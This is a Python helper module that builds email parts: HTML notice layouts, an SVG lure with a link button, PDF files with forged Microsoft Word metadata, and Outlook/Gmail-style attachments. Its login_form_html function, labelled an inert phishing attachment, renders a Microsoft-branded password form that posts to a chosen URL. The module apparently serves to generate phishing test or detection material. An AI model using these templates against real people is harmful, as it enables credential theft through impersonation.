"""HTML / SVG templates and PDF document helpers shared by message modules."""

from mime import esc
from media import PDF


def notice_html(brand, color, title, paras, button=None, footer='', cs='utf-8', lang='de', logo=None,
                after_button=None, preheader=''):
    """Table-based transactional / marketing layout (what ESP-sent mail looks like)."""
    btn = ''
    if button:
        btn = ('<tr><td align="center" style="padding:18px 0 22px 0">'
               '<table role="presentation" cellspacing="0" cellpadding="0" border="0"><tr>'
               '<td bgcolor="%s" style="border-radius:4px">'
               '<a href="%s" target="_blank" style="display:inline-block;padding:12px 28px;font-family:Arial,Helvetica,sans-serif;'
               'font-size:15px;color:#ffffff;text-decoration:none;font-weight:bold">%s</a></td></tr></table></td></tr>'
               % (color, esc(button[1]).replace('"', '&quot;'), esc(button[0])))
    body = ''.join('<tr><td style="padding:6px 0;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#333333">%s</td></tr>' % p
                   for p in paras)
    after = ''.join('<tr><td style="padding:6px 0;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#333333">%s</td></tr>' % p
                    for p in (after_button or []))
    return ('<!DOCTYPE html>\n<html lang="%s">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=%s">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1.0">\n<title>%s</title>\n</head>\n'
            '<body style="margin:0;padding:0;background-color:#f2f2f2">\n'
            '<div style="display:none;max-height:0;overflow:hidden">%s</div>\n'
            '<table role="presentation" width="100%%" cellspacing="0" cellpadding="0" border="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:24px 8px">\n'
            '<table role="presentation" width="600" cellspacing="0" cellpadding="0" border="0" bgcolor="#ffffff" style="max-width:600px">\n'
            '<tr><td bgcolor="%s" style="padding:18px 28px;font-family:Arial,Helvetica,sans-serif;font-size:20px;font-weight:bold;color:#ffffff">%s</td></tr>\n'
            '<tr><td style="padding:24px 28px 8px 28px"><table role="presentation" width="100%%" cellspacing="0" cellpadding="0" border="0">\n'
            '<tr><td style="padding:0 0 10px 0;font-family:Arial,Helvetica,sans-serif;font-size:18px;font-weight:bold;color:#222222">%s</td></tr>\n'
            '%s\n%s\n%s\n</table></td></tr>\n'
            '<tr><td style="padding:16px 28px 24px 28px;border-top:1px solid #e5e5e5;font-family:Arial,Helvetica,sans-serif;font-size:11px;line-height:16px;color:#888888">%s</td></tr>\n'
            '</table>\n</td></tr></table>\n</body>\n</html>\n'
            % (lang, cs, esc(title), esc(preheader), color, logo or esc(brand), esc(title), body, btn, after, footer))


def login_form_html(title, heading, intro, email, action, button, pw_label='Password', cs='utf-8', lang='en',
                    brand='Microsoft', color='#0067b8', note='', hidden=None):
    """Inert phishing 'document' attachment: static HTML form, no script."""
    hid = ''.join('<input type="hidden" name="%s" value="%s">' % (k, esc(v)) for k, v in (hidden or {}).items())
    return ('<!DOCTYPE html>\n<html lang="%s"><head><meta charset="%s"><title>%s</title>\n'
            '<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}'
            '.box{width:360px;margin:80px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            '.b{font-weight:600;font-size:15px;color:#5e5e5e}h1{font-size:22px;font-weight:600;margin:16px 0 8px}'
            'input[type=email],input[type=password],input[type=text]{width:100%%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}'
            'button{background:%s;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right;margin-top:16px}'
            '.n{font-size:12px;color:#666;margin-top:60px}</style></head>\n'
            '<body><div class="box"><div class="b">%s</div><h1>%s</h1><p>%s</p>\n'
            '<form method="POST" action="%s">%s\n'
            '<input type="email" name="login" value="%s" readonly>\n'
            '<input type="password" name="passwd" placeholder="%s" required>\n'
            '<button type="submit">%s</button></form><div class="n">%s</div></div></body></html>\n'
            % (lang, cs, esc(title), color, esc(brand), esc(heading), esc(intro), action, hid, email,
               esc(pw_label), esc(button), esc(note)))


def svg_doc(title, lines, link, button):
    body = ''.join('<text x="40" y="%d" font-family="Segoe UI, Arial" font-size="15" fill="#323130">%s</text>\n'
                   % (150 + 26 * i, esc(ln)) for i, ln in enumerate(lines))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="420" viewBox="0 0 640 420">\n'
            '<rect width="640" height="420" fill="#faf9f8"/>\n<rect x="0" y="0" width="640" height="64" fill="#0078d4"/>\n'
            '<text x="40" y="41" font-family="Segoe UI, Arial" font-size="22" fill="#ffffff">%s</text>\n%s'
            '<a xlink:href="%s" href="%s" target="_blank">\n'
            '<rect x="40" y="%d" width="260" height="44" rx="4" fill="#0078d4"/>\n'
            '<text x="170" y="%d" text-anchor="middle" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">%s</text>\n</a>\n</svg>\n'
            % (esc(title), body, esc(link), esc(link), 170 + 26 * len(lines), 198 + 26 * len(lines), esc(button)))


# ------------------------------------------------------------------ PDFs
def pdf_doc(title, author, blocks, creator=None, producer=None, date="20261001090000+02'00'"):
    """blocks: list of (style, text) or ('lines', multiline) or ('page', None)"""
    p = PDF(title, author, creator=creator or 'Microsoft\u00ae Word f\u00fcr Microsoft 365',
            producer=producer or 'Microsoft\u00ae Word f\u00fcr Microsoft 365', date=date)
    for st, tx in blocks:
        if st == 'page':
            p.page()
        elif st == 'lines':
            p.lines(tx)
        elif st == 'monolines':
            p.lines(tx, 'mono')
        else:
            p.add(st, tx)
    return p.build()


def pdfdate(s, tz="+01'00'"):
    """'2026-10-06 07:01' -> PDF date string"""
    d = s.replace('-', '').replace(' ', '').replace(':', '')
    return d + '00' + tz if len(d) == 12 else d + tz


# ------------------------------------------------------------------ part helpers
from mime import Text, Att, Multi  # noqa: E402


def alt(plain, html, cs='utf-8', cte='quoted-printable', cte_html=None, csname=None, flowed=False, wrap=None):
    return Multi('alternative', [Text('plain', plain, cs, cte, csname=csname, flowed=flowed, wrap=wrap),
                                 Text('html', html, cs, cte_html or cte, csname=csname)])


def ol_att(ctype, data, name, dispdate):
    """Exchange / Outlook style attachment part."""
    return Att(ctype, data, name, size=True, dispdate=dispdate, extra=['Content-Description: %s' % name]
               if all(ord(c) < 128 for c in name) else [], fname_style='2047:utf-8')


def gm_att(ctype, data, name, aid):
    return Att(ctype, data, name, extra=['Content-ID: <%s>' % aid, 'X-Attachment-Id: %s' % aid])


def pdf_att(data, name, style='plain'):
    if style == 'outlook_desktop':
        return Att('application/pdf', data, name, fname_style='2047:iso-8859-1')
    return Att('application/pdf', data, name)
